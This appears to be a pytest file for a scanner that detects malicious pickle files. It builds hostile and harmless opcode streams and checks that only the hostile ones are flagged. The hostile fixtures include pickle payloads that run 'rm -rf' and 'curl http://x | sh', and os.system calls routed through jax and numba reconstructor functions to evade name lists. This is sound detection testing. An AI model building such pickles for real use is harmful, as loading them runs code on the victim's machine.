"""Names on no list: told apart by how the pickle uses them."""

from __future__ import annotations

import pytest

from checker.extract.artifact.facts import Import
from tests.extract.artifact import builders as b
from tests.extract.artifact.findings import fails, findings, worst
from tests.extract.artifact.opcodes import call, data, name, new, pickled, stack_name, text
from tests.helpers import facts_of, of_kind

ONE = b"K\1"
TUPLE, NOTHING, EMPTY = b"t", b")", b"}"


def listed(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def mapping(**items: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


def by_name(cls: bytes, **items: bytes) -> bytes:
    """NEWOBJ_EX."""
    return cls + NOTHING + mapping(**items) + b"\x92"


def stream(content: bytes) -> bytes:
    """An `io.BytesIO` as pickle writes it."""
    return new(name("_io", "BytesIO")) + data(content) + b"K\0N\x87b"


def keras(layer: object) -> bytes:
    """A model of Keras as pickle writes it."""
    method = call(name("builtins", "getattr"), name("keras.src", "Model"), text("_unpickle_model"))
    return method + stream(b.keras_zip(b.keras_model(layer))) + b"\x85R"


def built(instance: bytes, **state: bytes) -> bytes:
    return instance + mapping(**state) + b"b"


RUNNER = name("acme.proc", "Runner")
CALLED = {
    "redis.Redis": (text("x"),),
    "sagemaker.Session": (),
    "dask.compute": (ONE,),
    "ray.get": (ONE,),
    "acme.Session": (),
    "acme.proc.Subprocess": (ONE,),
    "acme.proc.Runner": (listed(text("sh"), text("-c"), text("id")),),
    "acme.models.Command": (text("rm -rf /tmp/x"),),
    "acme.models.Downloader": (text("https://example.org/x"),),
    "acme.compute": (ONE,),
    "acme.kernel.launch": (mapping(cmd=text("id")),),
    "joblib.parallel.BatchedCalls": (listed(ONE), ONE),
    "joblib.parallel.Parallel": (),
    "pandas.core.apply.frame_apply": (ONE,),
    "pandas.core.frame.DataFrame.eval": (text("a + b"),),
    "pandas.core.frame.DataFrame.query": (text("a > 1"),),
    "torch.package.PackageImporter": (text("/tmp/x"),),
    "onnxruntime.InferenceSession": (text("/tmp/x"),),
}


@pytest.mark.parametrize("called", CALLED)
@pytest.mark.parametrize("opcode", ["REDUCE", "OBJ", "INST"])
def test_call(called: str, opcode: str):
    module, attribute = _split(called)
    arguments = b"".join(CALLED[called])
    bodies = {
        "REDUCE": stack_name(module, attribute) + b"(" + arguments + b"tR",
        "OBJ": b"(" + stack_name(module, attribute) + arguments + b"o",
        "INST": b"(" + arguments + f"i{module}\n{attribute}\n".encode(),
    }
    content = pickled(bodies[opcode])
    if opcode != "INST" or "DataFrame" not in called:
        assert fails(content), findings(content)


def _split(dotted: str) -> tuple[str, str]:
    module, _, attribute = dotted.rpartition(".")
    owner = module.rpartition(".")
    return (owner[0], f"{owner[2]}.{attribute}") if owner[2][:1].isupper() else (module, attribute)


HOSTILE = {
    "command by name": by_name(RUNNER, command=text("rm -rf /x; curl http://x | sh")),
    "list of words by name": by_name(RUNNER, args=listed(text("curl"), text("http://x"))),
    "word for a command": by_name(RUNNER, cmd=text("x")),
    "code by name": by_name(RUNNER, code=text("x")),
    "address by name": by_name(name("acme", "Dataset"), source_=text("https://x/y")),
    "method of a result": call(
        call(name("builtins", "getattr"), new(name("pandas", "DataFrame")), text("eval")),
        text("a"),
    ),
    "keras model with a Lambda": keras(
        {"class_name": "Lambda", "config": {"function": ["4w==", None, None]}}
    ),
    "loader of Keras with a path": call(
        name("keras.src", "Model._unpickle_model"), text("/tmp/x.keras")
    ),
    "array of jax by another function": call(
        name("jax._src.array", "_reconstruct_array"), name("os", "system"), b"(" + text("id") + b"t"
    ),
    "type of numba by another function": call(
        name("numba.core.types.abstract", "_type_reconstructor"),
        name("os", "system"),
        b"(" + text("id") + b"t",
    ),
    "class made of what a shell is to run": new(
        name("acme", "Launcher"), listed(text("/bin/sh"), text("-c"), text("true"))
    ),
    "class made of a line for a shell": new(
        name("acme", "Task"), text("curl http://a.invalid | sh")
    ),
    "own setter": built(
        built(new(name("acme", "Thing")), __setstate__=name("acme.proc", "run")), x=text("id")
    ),
}

HARMLESS = {
    "keras model": keras({"module": "keras.layers", "class_name": "Dense", "config": {}}),
    "array of jax": call(
        name("jax._src.array", "_reconstruct_array"),
        name("numpy.core.multiarray", "_reconstruct"),
        b"(" + name("numpy", "ndarray") + b"K\0\x85C\1bt",
    ),
    "time zone": call(name("dateutil.tz._tzfile", "_unpickle"), text("/usr/share/zoneinfo/UTC")),
    "pattern of regex": call(name("regex._regex", "compile"), text("(a|b)+")),
    "type of tensorflow": call(
        name("tensorflow.python.framework.dtypes", "as_dtype"), text("float32")
    ),
    "object by name in protocol 2": call(
        name("functools", "partial"),
        call(name("builtins", "getattr"), name("mine", "Number"), text("__new__")),
        name("mine", "Number"),
        text("1.5"),
    )
    + b")R",
    "named tuple": new(name("mine", "Row"), text("python train.py"), text("/data/x.csv")),
    "record of a command": new(
        name("mine", "Step"), listed(text("python"), text("--lr"), text("0.1"))
    ),
    "settings by name": by_name(name("mine", "Config"), name=text("x"), size=ONE),
    "value of an enumeration": call(name("mine", "Place"), text("/a/b")),
    "word of an enumeration": call(name("mine", "Animal"), text("cat")),
    "labels": call(name("mine", "Labels"), listed(text("cat"), text("dog"))),
    "error": call(name("mine", "FitError"), text("open /x failed; see (1)")),
    "method of a class": b"(" + name("mine", "Model.fit") + TUPLE,
    "factory": call(name("mine", "_make"), ONE, ONE),
    "public factory": call(name("mine", "unpickle_node"), name("mine", "Node"), listed(ONE)),
    "settings that name a command": built(new(name("mine", "Config")), cmd=text("python train.py")),
}  # fmt: skip


@pytest.mark.parametrize("label", HOSTILE)
def test_found(label: str):
    assert fails(pickled(HOSTILE[label])), findings(pickled(HOSTILE[label]))


@pytest.mark.parametrize("label", HARMLESS)
def test_left_alone(label: str):
    assert not fails(pickled(HARMLESS[label])), findings(pickled(HARMLESS[label]))


def test_command_by_name_is_high():
    assert worst(pickled(HOSTILE["command by name"])) == "high"


def test_names_of_arguments():
    found = facts_of("m.pkl", pickled(by_name(RUNNER, command=text("x"), shell=b"\x88")))
    (imported,) = of_kind(found, "artifact.import")
    assert isinstance(imported, Import)
    assert (imported.use, imported.keywords) == ("newobj", ("command", "shell"))
